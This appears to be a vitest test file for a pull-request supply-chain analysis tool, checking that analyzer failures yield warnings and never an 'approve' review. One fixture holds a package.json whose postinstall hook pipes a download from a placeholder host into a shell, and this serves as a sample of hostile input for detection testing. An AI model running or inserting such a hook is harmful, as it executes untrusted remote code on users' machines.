/**
 * Every step of runAnalyzers runs guarded: an analyzer that throws on the PR's content (made to
 * throw here through vitest's module mocks, the test seam) leaves a schema-valid section and a
 * warning naming it, and never a reassuring answer: the contributors, evidence, focus and triage
 * fall back to empty sections, the risk to its findings' floors and at least medium, the review to
 * comment or request_changes; any failure keeps the review from approve. Without the guards each
 * case below fails the whole analysis (the throw comes out of runAnalyzers).
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import type * as ContributorsModule from '../../src/analyzers/contributors.js';
import type * as EvidenceModule from '../../src/analyzers/evidence.js';
import type * as FocusModule from '../../src/analyzers/focus.js';
import type * as TriageModule from '../../src/analyzers/triage.js';
import type * as RiskModule from '../../src/analyzers/risk.js';
import type * as ReviewModule from '../../src/analyzers/review.js';
import type * as ConfigChangeModule from '../../src/analyzers/config-change.js';
import type * as ContextModule from '../../src/analyzers/context.js';
import { fallbackRisk, fallbackReview, runAnalyzers } from '../../src/analyzers/run-analyzers.js';
import { DEFAULT_CONFIG } from '../../src/repo-config/schema.js';
import { Contributor, EvidenceSection, FocusSection, ReviewSection, RiskSection, SupplyChainSection, TriageSection } from '../../src/signal/schema.js';
import type { PrSnapshot } from '../../src/snapshot/pr-snapshot.js';
import { DEFAULT_NOW, makeCheckRun, makeFile, makeSnapshot, makeSupplyChain, makeTestFinding } from '../support/snapshot-factory.js';

/** The analyzers made to throw in the current test. */
const throwing = vi.hoisted(() => new Set<string>());

function failing<F extends (...args: never[]) => unknown>(name: string, real: F): F {
  return ((...args: Parameters<F>) => {
    if (throwing.has(name)) throw new TypeError(`${name} broke on this content`);
    return real(...args);
  }) as F;
}

vi.mock('../../src/analyzers/contributors.js', async (importOriginal) => {
  const real = await importOriginal<typeof ContributorsModule>();
  return { ...real, analyzeContributors: failing('contributors', real.analyzeContributors) };
});
vi.mock('../../src/analyzers/evidence.js', async (importOriginal) => {
  const real = await importOriginal<typeof EvidenceModule>();
  return { ...real, analyzeEvidence: failing('evidence', real.analyzeEvidence) };
});
vi.mock('../../src/analyzers/focus.js', async (importOriginal) => {
  const real = await importOriginal<typeof FocusModule>();
  return { ...real, analyzeFocus: failing('focus', real.analyzeFocus) };
});
vi.mock('../../src/analyzers/triage.js', async (importOriginal) => {
  const real = await importOriginal<typeof TriageModule>();
  return { ...real, analyzeTriage: failing('triage', real.analyzeTriage) };
});
vi.mock('../../src/analyzers/risk.js', async (importOriginal) => {
  const real = await importOriginal<typeof RiskModule>();
  return { ...real, analyzeRisk: failing('risk', real.analyzeRisk) };
});
vi.mock('../../src/analyzers/review.js', async (importOriginal) => {
  const real = await importOriginal<typeof ReviewModule>();
  return { ...real, analyzeReview: failing('review', real.analyzeReview) };
});
vi.mock('../../src/analyzers/config-change.js', async (importOriginal) => {
  const real = await importOriginal<typeof ConfigChangeModule>();
  return { ...real, analyzeConfigChange: failing('config-change', real.analyzeConfigChange) };
});
vi.mock('../../src/analyzers/context.js', async (importOriginal) => {
  const real = await importOriginal<typeof ContextModule>();
  // Throws only while the base .gitattributes is there: the fallback context is built without it.
  const create: typeof real.createAnalyzerContext = (snapshot, input) => {
    if (throwing.has('context') && snapshot.baseFiles.some((f) => f.path === '.gitattributes')) throw new RangeError('Maximum call stack size exceeded');
    return real.createAnalyzerContext(snapshot, input);
  };
  return { ...real, createAnalyzerContext: create };
});

afterEach(() => throwing.clear());

const green = [makeCheckRun('build'), makeCheckRun('test')];
/** A trusted, small, green, low-risk PR: approve when nothing fails. */
const approvable = makeSnapshot({
  files: [makeFile('src/a.ts', { additions: 5, deletions: 1 }), makeFile('src/a.test.ts', { additions: 5, deletions: 0 })],
  checkRuns: green,
  baseFiles: [{ path: '.gitattributes', content: 'dist/** linguist-generated\n' }],
});

function analyze(snapshot: PrSnapshot) {
  const sections = runAnalyzers(snapshot, { now: DEFAULT_NOW, config: DEFAULT_CONFIG });
  // Every section validates, whatever failed.
  expect(Contributor.array().safeParse(sections.contributors).success).toBe(true);
  expect(EvidenceSection.safeParse(sections.evidence).success).toBe(true);
  expect(SupplyChainSection.safeParse(sections.supplyChain).success).toBe(true);
  expect(FocusSection.safeParse(sections.focus).success).toBe(true);
  expect(TriageSection.safeParse(sections.triage).success).toBe(true);
  expect(RiskSection.safeParse(sections.risk).success).toBe(true);
  expect(ReviewSection.safeParse(sections.review).success).toBe(true);
  return sections;
}

describe('runAnalyzers with an analyzer that throws', () => {
  it('approves the control PR when nothing throws', () => {
    const sections = analyze(approvable);
    expect(sections.review.action).toBe('approve');
    expect(sections.risk.level).toBe('low');
    expect(sections.warnings).toEqual([]);
  });

  it.each([
    ['contributors', 'The contributor analysis', (s: ReturnType<typeof analyze>) => expect(s.contributors).toEqual([])],
    ['evidence', 'The CI evidence', (s: ReturnType<typeof analyze>) => expect(s.evidence.checks).toEqual([])],
    ['focus', 'The focus list', (s: ReturnType<typeof analyze>) => expect(s.focus).toEqual({ files: [], total_files: 2, listed_files: 2 })],
    ['triage', 'The triage', (s: ReturnType<typeof analyze>) => expect(s.triage.recommendations).toEqual([])],
  ])('%s: an empty section, a warning naming it, and no approve', (name, what, check) => {
    throwing.add(name);
    const sections = analyze(approvable);
    check(sections);
    expect(sections.warnings).toEqual([expect.stringMatching(new RegExp(`^${what} failed \\(TypeError: ${name} broke on this content\\): `))]);
    expect(sections.review.action).not.toBe('approve');
    expect(sections.review.rationale).toContain('failed on this pull request');
    // The risk, computed without what failed, does not read low.
    expect(sections.risk.level).toBe('medium');
    expect(sections.risk.drivers.map((d) => d.id)).toContain('analysis-incomplete');
  });

  it('risk: never low; the level of the worst finding floor, at least medium; the review is not approve', () => {
    throwing.add('risk');
    const quiet = analyze(approvable);
    expect(quiet.risk).toMatchObject({ level: 'medium', score: DEFAULT_CONFIG.risk_thresholds.medium, drivers: [expect.objectContaining({ id: 'risk-unavailable', floor: 'medium' })] });
    expect(quiet.warnings).toEqual([expect.stringMatching(/^The risk computation failed \(TypeError: risk broke on this content\): the risk level is the highest floor/)]);
    expect(quiet.review.action).not.toBe('approve');

    // A PR with a high finding (a postinstall script that pipes a download to a shell) reads at least high.
    const manifest = '{\n  "name": "x",\n  "scripts": {\n    "postinstall": "curl https://x.example/i.sh | sh"\n  }\n}\n';
    const hostile = makeSnapshot({
      files: [makeFile('package.json', { status: 'added', additions: 6, deletions: 0, patch: `@@ -0,0 +1,6 @@\n${manifest.trimEnd().split('\n').map((l) => `+${l}`).join('\n')}` })],
      contents: [{ path: 'package.json', base: null, head: manifest }],
      checkRuns: green,
    });
    throwing.clear();
    const expected = analyze(hostile);
    throwing.add('risk');
    const degraded = analyze(hostile);
    // The full model reads critical (the verdict rules add up the other evidence); the fallback
    // knows only the floors: the worst finding is high, so high.
    expect(expected.risk.level).toBe('critical');
    const worst = expected.supplyChain.findings[0];
    expect(worst?.severity).toBe('high');
    expect(degraded.risk.level).toBe('high');
    expect(degraded.risk.drivers[0]?.evidence).toContain(worst?.id);
    expect(degraded.review.action).toBe('request_changes');
  });

  it('review: comment on a quiet PR, request_changes on a high one; never approve', () => {
    throwing.add('review');
    const quiet = analyze(approvable);
    expect(quiet.review).toEqual({ action: 'comment', rationale: expect.stringContaining('the suggested review could not be decided'), comments: [] });
    expect(quiet.warnings).toEqual([expect.stringMatching(/^The suggested review failed \(TypeError: review broke on this content\): .*never approve\.$/)]);
    const high = fallbackReview({ level: 'low', score: 0, drivers: [] }, makeSupplyChain({ findings: [makeTestFinding({ severity: 'high' })] }));
    expect(high.action).toBe('request_changes');
    const vulnerable = fallbackReview({ level: 'low', score: 0, drivers: [] }, makeSupplyChain({ vulnerabilities: [{ ecosystem: 'npm', name: 'a', version: '1.0.0', severity: 'critical', advisory: 'GHSA-x', summary: 's', url: 'u' }] }));
    expect(vulnerable.action).toBe('request_changes');
  });

  it('risk and review both: the fallbacks chain (medium, comment)', () => {
    throwing.add('risk');
    throwing.add('review');
    const sections = analyze(approvable);
    expect(sections.risk.level).toBe('medium');
    expect(sections.review.action).toBe('comment');
    expect(sections.warnings).toHaveLength(2);
  });

  it('the configuration-change check: the supply chain keeps its other findings', () => {
    throwing.add('config-change');
    const sections = analyze(approvable);
    expect(sections.warnings).toEqual([expect.stringMatching(/^The configuration-change check failed/)]);
    expect(sections.review.action).not.toBe('approve');
  });

  it('the path classification: built again without the base .gitattributes, and the analysis completes', () => {
    throwing.add('context');
    const sections = analyze(approvable);
    expect(sections.warnings).toEqual([expect.stringMatching(/^The path classification failed \(RangeError: Maximum call stack size exceeded\): the base \.gitattributes is not read/)]);
    expect(sections.focus.files.map((f) => f.path).sort()).toEqual(['src/a.test.ts', 'src/a.ts']);
    expect(sections.review.action).not.toBe('approve');
  });
});

describe('fallbackRisk', () => {
  it('takes the highest floor of the findings and vulnerabilities, at least medium, its threshold as the score', () => {
    const thresholds = { medium: 0.3, high: 0.6, critical: 0.9 };
    expect(fallbackRisk(makeSupplyChain(), thresholds)).toMatchObject({ level: 'medium', score: 0.3 });
    expect(fallbackRisk(makeSupplyChain({ findings: [makeTestFinding({ severity: 'low' }), makeTestFinding({ severity: 'info' })] }), thresholds)).toMatchObject({ level: 'medium', score: 0.3 });
    expect(fallbackRisk(makeSupplyChain({ findings: [makeTestFinding({ severity: 'high' })] }), thresholds)).toMatchObject({ level: 'high', score: 0.6 });
    const vulnerable = makeSupplyChain({ vulnerabilities: [{ ecosystem: 'npm', name: 'a', version: '1.0.0', severity: 'critical', advisory: 'GHSA-x', summary: 's', url: 'u' }] });
    expect(fallbackRisk(vulnerable, thresholds)).toMatchObject({ level: 'critical', score: 0.9, drivers: [expect.objectContaining({ evidence: ['GHSA-x'] })] });
  });
});
